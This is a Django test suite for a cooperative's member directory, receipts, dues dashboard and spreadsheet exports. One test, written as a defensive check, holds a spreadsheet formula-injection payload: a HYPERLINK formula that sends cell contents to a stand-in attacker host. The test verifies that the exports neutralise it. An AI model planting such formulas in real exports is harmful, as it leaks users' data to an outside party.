"""The cooperative's pages: the directory respects the members' choice, a member's page and
receipts open to the coordination and the member's own people only, the dashboard shows
the selectors' figures and calls and records dues, the exports open in a spreadsheet."""

import csv
import datetime as dt
import html
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from maillage.core.models import Activity
from maillage.directory.models import Organisation
from maillage.members.models import DuesCall, DuesPayment, FundingLine, Membership
from maillage.members.selectors import funding_mix, member_figures
from maillage.members.services import (
    dues_call,
    dues_pay,
    funding_line_save,
    representative_add,
    shares_release,
    shares_subscribe,
    volunteer_hours_log,
)
from tests.factories import OrganisationFactory, UserFactory
from tests.members.factories import DAY, college, member, rule

pytestmark = pytest.mark.django_db


@pytest.fixture
def coordinator(client):
    user = UserFactory(roles=["coordinator"])
    client.force_login(user)
    return user


@pytest.fixture
def hub():
    from maillage.directory.services import organisation_save

    return organisation_save(
        organisation=Organisation(
            name="Provence Numérique", kind="tiers_lieu_operator", is_hub=True,
            address="12 avenue de la Gare", commune_id="84080",
        )
    )  # fmt: skip


def paid(membership, amount=50, year=2026, reference="VIR-42") -> DuesPayment:
    call = dues_call(membership=membership, year=year, amount=Decimal(amount), called_on=DAY)
    return dues_pay(call=call, amount=Decimal(amount), paid_on=DAY, reference=reference)


# --- Directory ---------------------------------------------------------------------------------


def test_the_public_directory_lists_only_active_members_who_chose_it(client):
    member("Listée", listed=True)
    member("Discrète")
    member("Candidate listée", status="applicant", listed=True, college_code=None)
    page = client.get("/membres/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "Listée" in text and "Discrète" not in text and "Candidate listée" not in text
    assert page.context["page"].paginator.count == 1
    assert 'name="status"' not in text  # the status filter is the coordination's


def test_the_coordination_sees_every_member_with_filters_and_search(client, coordinator):
    member("Comtat Logiciels", listed=True)
    member("Data Sorgues")
    member("Partenaire", type="partner", college_code=None)
    college("salaries")
    assert client.get("/membres/").context["page"].paginator.count == 3
    assert client.get("/membres/", {"q": "logiciel"}).context["page"].paginator.count == 1
    assert client.get("/membres/", {"type": "partner"}).context["page"].paginator.count == 1
    assert client.get("/membres/", {"college": "beneficiaires"}).context["page"].paginator.count == 2  # fmt: skip
    assert client.get("/membres/", {"status": "lapsed"}).context["page"].paginator.count == 0
    unknown = client.get("/membres/", {"college": "inconnu"})
    assert unknown.status_code == 200
    assert "Collège inconnu : « inconnu »" in unknown.content.decode()


# --- A member's page and receipts --------------------------------------------------------------------


def test_a_listed_members_public_part_and_the_private_statement(client):
    listed = member("Comtat Logiciels", listed=True)
    shares_subscribe(membership=listed, shares=3, date=DAY)
    shares_release(membership=listed, shares=2, date=DAY)
    payment = paid(listed)
    public = client.get(f"/membres/{listed.pk}/")
    assert public.status_code == 200 and not public.context["private"]
    assert f"/cooperative/recu/{payment.pk}/" not in public.content.decode()
    representative = UserFactory(roles=["member"])
    representative_add(person=representative, organisation=listed.organisation)
    client.force_login(representative)
    private = client.get(f"/membres/{listed.pk}/")
    text = private.content.decode()
    assert private.context["private"] and f"/cooperative/recu/{payment.pk}/" in text
    assert "3 parts souscrites, dont 2 libérées" in text
    assert [line.released_after for line in private.context["statement"]] == [0, 2]
    assert private.context["transition_form"] is None


def test_an_unlisted_member_is_hidden_from_others(client):
    hidden = member("Discrète")
    assert client.get(f"/membres/{hidden.pk}/").status_code == 302
    client.force_login(UserFactory(roles=["member"]))
    assert client.get(f"/membres/{hidden.pk}/").status_code == 403
    assert client.get("/membres/999999/").status_code == 404


def test_the_coordination_moves_a_membership_along_its_life(client, coordinator):
    membership = member("Comtat")
    page = client.get(f"/membres/{membership.pk}/")
    assert [code for code, _label in page.context["transition_form"].fields["to"].choices] == [
        "lapsed", "left",
    ]  # fmt: skip
    answer = client.post(f"/membres/{membership.pk}/", {"to": "lapsed"})
    assert answer.status_code == 302
    membership.refresh_from_db()
    assert membership.status == "lapsed"
    refused = client.post(f"/membres/{membership.pk}/", {"to": "applicant"})
    assert refused.status_code == 200 and refused.context["transition_form"].errors
    early = client.post(f"/membres/{membership.pk}/", {"to": "left", "on": "2020-01-01"})
    assert "La date de départ précède la date d'adhésion." in html.unescape(early.content.decode())
    membership.refresh_from_db()
    assert membership.status == "lapsed"


def test_receipts_open_to_the_coordination_and_the_members_people_only(client, hub):
    own, other = member("Pixel Ventoux"), member("Data Sorgues")
    person = UserFactory(roles=["member"])
    representative_add(person=person, organisation=own.organisation, may_edit=False)
    mine, theirs = paid(own, amount=80, reference="VIR-PIXEL"), paid(other)
    assert client.get(f"/cooperative/recu/{mine.pk}/").status_code == 302
    client.force_login(person)
    receipt = client.get(f"/cooperative/recu/{mine.pk}/")
    text = receipt.content.decode()
    assert receipt.status_code == 200
    for expected in (f"n°&nbsp;2026-{mine.pk:05d}", "Provence Numérique",
                     "12 avenue de la Gare", "Pixel Ventoux", "VIR-PIXEL", "80,00 €",
                     "Imprimer ou enregistrer en PDF"):  # fmt: skip
        assert expected in text, expected
    assert client.get(f"/cooperative/recu/{theirs.pk}/").status_code == 403
    own_person = member(person=person, type="association", college_code=None)
    assert client.get(f"/cooperative/recu/{paid(own_person).pk}/").status_code == 200
    client.force_login(UserFactory(roles=["coordinator"]))
    assert client.get(f"/cooperative/recu/{theirs.pk}/").status_code == 200
    assert client.get("/cooperative/recu/999999/").status_code == 404


# --- The member's own space -----------------------------------------------------------------------


def test_the_member_space_shows_my_organisations_memberships_and_receipts(client):
    person = UserFactory(roles=["member"])
    first, second = member("Pixel Ventoux"), member("Le Lien numérique")
    representative_add(person=person, organisation=first.organisation)
    representative_add(person=person, organisation=second.organisation, may_edit=False)
    member("Pas à moi")
    payment = paid(first)
    client.force_login(person)
    page = client.get("/espace-membre/")
    text = page.content.decode()
    assert [entry["membership"] for entry in page.context["memberships"]] == [second, first]
    assert "Pas à moi" not in text and f"/cooperative/recu/{payment.pk}/" in text
    assert f"/espace-membre/organisation/{first.organisation.pk}/" in text
    assert f"/espace-membre/organisation/{second.organisation.pk}/" not in text
    assert [entry["may_change"] for entry in page.context["memberships"]] == [False, True]


def test_a_member_chooses_the_public_directory_for_their_organisation_only(client):
    person = UserFactory(roles=["member"])
    mine, other = member("Pixel Ventoux"), member("Data Sorgues")
    representative_add(person=person, organisation=mine.organisation)
    client.force_login(person)
    answer = client.post("/espace-membre/", {"action": "listed", "membership": mine.pk,
                                             "listed": "on"})  # fmt: skip
    assert answer.status_code == 302
    assert Membership.objects.get(pk=mine.pk).listed_publicly
    assert client.get("/membres/").context["page"].paginator.count == 1
    assert client.post("/espace-membre/", {"action": "listed", "membership": other.pk,
                                           "listed": "on"}).status_code == 403  # fmt: skip
    assert not Membership.objects.get(pk=other.pk).listed_publicly
    client.post("/espace-membre/", {"action": "listed", "membership": mine.pk})
    assert not Membership.objects.get(pk=mine.pk).listed_publicly


def test_a_person_logs_their_own_volunteer_hours(client):
    person = UserFactory()
    client.force_login(person)
    today = timezone.localdate()
    answer = client.post("/espace-membre/", {"action": "hours", "activity": "Repair café",
                                             "date": today.isoformat(), "hours": "3.5"})  # fmt: skip
    assert answer.status_code == 302
    assert list(person.volunteer_hours.values_list("activity", "hours")) == [
        ("Repair café", Decimal("3.5"))
    ]
    future = client.post("/espace-membre/", {"action": "hours", "activity": "Atelier",
                         "date": (today + dt.timedelta(days=2)).isoformat(), "hours": "2"})  # fmt: skip
    assert future.status_code == 200 and future.context["hours_form"].errors["date"]
    too_long = client.post("/espace-membre/", {"action": "hours", "activity": "Atelier",
                           "date": today.isoformat(), "hours": "30"})  # fmt: skip
    assert too_long.context["hours_form"].errors["hours"]
    assert person.volunteer_hours.count() == 1
    assert "3,50 h données" in client.get("/espace-membre/").content.decode()


def test_a_member_edits_the_card_of_an_organisation_they_act_for(client):
    person = UserFactory(roles=["member"])
    mine, read_only, other = OrganisationFactory(), OrganisationFactory(), OrganisationFactory()
    representative_add(person=person, organisation=mine)
    representative_add(person=person, organisation=read_only, may_edit=False)
    client.force_login(person)
    url = f"/espace-membre/organisation/{mine.pk}/"
    assert client.get(url).status_code == 200
    answer = client.post(url, {"name": "Pixel Ventoux", "description": "Agence web.",
                               "email": "bonjour@pixel.example", "telephone": "", "website": "",
                               "address": "2 rue Neuve", "sectors": "Web, Accessibilité",
                               "skills": ""})  # fmt: skip
    assert answer.status_code == 302
    mine.refresh_from_db()
    assert (mine.name, mine.search_name, mine.sectors) == (
        "Pixel Ventoux", "pixel ventoux", ["Web", "Accessibilité"],
    )  # fmt: skip
    assert Activity.objects.filter(verb="organisation.updated", actor=person).exists()
    bad = client.post(url, {"name": "", "email": "pas-un-courriel"})
    assert bad.status_code == 200 and set(bad.context["form"].errors) == {"name", "email"}
    assert client.get(f"/espace-membre/organisation/{read_only.pk}/").status_code == 403
    assert client.get(f"/espace-membre/organisation/{other.pk}/").status_code == 403


# --- The coordination's dashboard ------------------------------------------------------------------


def test_the_dashboard_shows_the_selectors_figures(client, coordinator):
    first, second = member("A"), member("B", kind="local_authority")
    member("Candidate", status="applicant", college_code=None)
    for membership, shares in ((first, 2), (second, 10)):
        shares_subscribe(membership=membership, shares=shares, date=DAY)
        shares_release(membership=membership, shares=shares, date=DAY)
    paid(first, amount=30)
    dues_call(membership=second, year=2026, amount=Decimal(500), called_on=DAY)
    volunteer_hours_log(person=coordinator, activity="Fablab", date=DAY, hours=Decimal(4))
    page = client.get("/equipe/cooperative/", {"annee": 2026})
    assert page.status_code == 200
    assert page.context["figures"] == member_figures(year=2026)
    text = page.content.decode()
    figures = page.context["figures"]
    assert (figures.societaires, figures.capital, figures.dues_outstanding) == (
        2, Decimal(1200), Decimal(500),
    )  # fmt: skip
    assert [reminder["call"].membership for reminder in page.context["reminders"]] == [second]
    assert 'data-testid="figure-societaires">2<' in text
    table = {row.code: row.counts for row in page.context["table"]}
    assert table["societaire"] == [1, 2, 0, 0]
    assert "/equipe/cooperative/export/register.xlsx" in text


def test_the_coordination_calls_the_years_dues_and_records_a_payment_once(client, coordinator):
    rule(30)
    membership = member("Comtat")
    called = client.post("/equipe/cooperative/?annee=2026",
                         {"action": "call", "year": 2026, "called_on": "2026-01-15"})  # fmt: skip
    assert called.status_code == 302
    call = DuesCall.objects.get()
    assert (call.membership, call.amount) == (membership, Decimal(30))
    form = {"action": "pay", "call": call.pk, "amount": "30", "paid_on": "2026-02-01",
            "reference": "CHQ 123"}  # fmt: skip
    assert client.post("/equipe/cooperative/", form).status_code == 302
    twice = client.post("/equipe/cooperative/", {**form, "reference": "CHQ 124"}, follow=True)
    assert "déjà payée" in twice.content.decode()
    assert DuesPayment.objects.get().reference == "CHQ 123"
    member("Sans barème", type="partner", college_code=None)
    refused = client.post("/equipe/cooperative/",
                          {"action": "call", "year": 2027, "called_on": "2027-01-15"})  # fmt: skip
    assert refused.status_code == 200
    assert "Aucun barème ne s'applique" in html.unescape(refused.content.decode())
    assert not DuesCall.objects.filter(year=2027).exists()


# --- Exports ----------------------------------------------------------------------------------------


def _book(response):
    return load_workbook(io.BytesIO(response.content), read_only=True).active


def test_the_exports_open_as_csv_and_xlsx(client, coordinator):
    listed = member("Comtat Logiciels", listed=True)
    shares_subscribe(membership=listed, shares=3, date=DAY)
    paid(listed, reference="VIR-1")
    volunteer_hours_log(person=coordinator, activity="Fablab", date=DAY, hours=Decimal(4))
    members_csv = client.get("/equipe/cooperative/export/members.csv")
    assert members_csv["Content-Disposition"] == 'attachment; filename="membres.csv"'
    rows = list(csv.reader(io.StringIO(members_csv.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["N°", "Membre", "Nature"] and rows[1][1] == "Comtat Logiciels"
    register = _book(client.get("/equipe/cooperative/export/register.xlsx"))
    lines = list(register.iter_rows(values_only=True))
    assert lines[0][:4] == ("Date", "Sociétaire", "Opération", "Parts")
    assert lines[1][1:4] == ("Comtat Logiciels", "Souscription", 3)
    dues = list(_book(client.get("/equipe/cooperative/export/dues.xlsx?annee=2026")).iter_rows(
        values_only=True))  # fmt: skip
    assert dues[1][0] == 2026 and dues[1][7] == "VIR-1" and dues[1][8].startswith("2026-")
    hours = list(_book(client.get("/equipe/cooperative/export/volunteering.xlsx")).iter_rows(
        values_only=True))  # fmt: skip
    assert hours[1][2:] == ("Fablab", 4, 60)
    assert client.get("/equipe/cooperative/export/secrets.csv").status_code == 404
    assert client.get("/equipe/cooperative/export/members.pdf").status_code == 404


PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'


def test_an_organisation_named_as_a_formula_is_exported_as_text(client, coordinator):
    """Security review, finding 3: an applicant's organisation name is no live formula in
    the coordinator's members.csv and members.xlsx."""
    member(PAYLOAD, status="applicant", college_code=None)
    members_csv = client.get("/equipe/cooperative/export/members.csv")
    rows = list(csv.reader(io.StringIO(members_csv.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "'" + PAYLOAD
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))]
    book = load_workbook(io.BytesIO(client.get("/equipe/cooperative/export/members.xlsx").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert book.active["B2"].value == "'" + PAYLOAD


# --- The funding mix ---------------------------------------------------------------------------------


def test_the_funding_mix_page_adds_up_to_100(client):
    payer = member("Comtat")
    paid(payer, amount=333)
    volunteer_hours_log(person=UserFactory(), activity="Fablab", date=DAY, hours=Decimal(7))
    for category, amount in (("public_region", 1000), ("public_epci", 777), ("private", 91)):
        funding_line_save(line=FundingLine(year=2026, category=category, amount=Decimal(amount)))
    page = client.get("/cooperative/financement/", {"annee": 2026})
    mix = page.context["mix"]
    assert mix == funding_mix(year=2026)
    assert round(sum(group.share for group in mix.groups), 1) == 100.0
    assert round(sum(row.share for row in mix.rows), 1) == 100.0
    assert mix.total == Decimal(333 + 105 + 1000 + 777 + 91)
    text = page.content.decode()
    assert 'data-testid="shares-total">100,0 %' in text
    assert "Ressources propres : bénévolat valorisé" in text
    assert '<svg class="members-mix-own" width="' in text
    assert "," not in text.split('<svg class="members-mix-own" width="')[1][:6]
    empty = client.get("/cooperative/financement/", {"annee": 2001})
    assert "Aucune ressource n'est enregistrée pour 2001." in empty.content.decode()
